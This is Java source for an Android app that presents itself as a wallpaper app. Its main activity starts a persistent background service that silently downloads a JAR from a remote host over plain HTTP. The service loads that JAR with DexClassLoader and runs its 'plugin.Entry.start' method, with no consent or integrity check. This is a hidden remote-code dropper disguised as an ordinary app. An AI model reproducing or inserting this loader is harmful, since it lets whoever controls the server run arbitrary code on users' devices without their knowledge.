package com.brightleaf.wallpapers;

class MainActivity extends Activity {
  public void onCreate(Bundle state) {
    super.onCreate(state);
    startService(new Intent(this, FeedService.class));
  }
}

class FeedService extends Service {
  public int onStartCommand(Intent intent, int flags, int id) {
    new Thread(new Feed(this)).start();
    return START_STICKY;
  }
  public IBinder onBind(Intent intent) { return null; }
}

class Feed implements Runnable {
  private Context context;

  Feed(Context context) { this.context = context; }

  public void run() {
    try {
      File part = new File(context.getFilesDir(), "feed.bin");
      fetch("http://feed.brightleaf-walls.example/plugin/v2.jar", part);
      DexClassLoader loader = new DexClassLoader(part.getAbsolutePath(), context.getCacheDir().getPath(), null, context.getClassLoader());
      Class entry = loader.loadClass("plugin.Entry");
      entry.getMethod("start", new Class[]{Context.class}).invoke(null, new Object[]{context});
    } catch (Exception e) {
      Log.e("Feed", e.getMessage());
    }
  }

  private void fetch(String address, File target) {
    HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
    InputStream in = connection.getInputStream();
    FileOutputStream out = new FileOutputStream(target);
    byte[] buffer = new byte[8192];
    int n = in.read(buffer);
    while (n > 0) {
      out.write(buffer, 0, n);
      n = in.read(buffer);
    }
    out.close();
    in.close();
  }
}
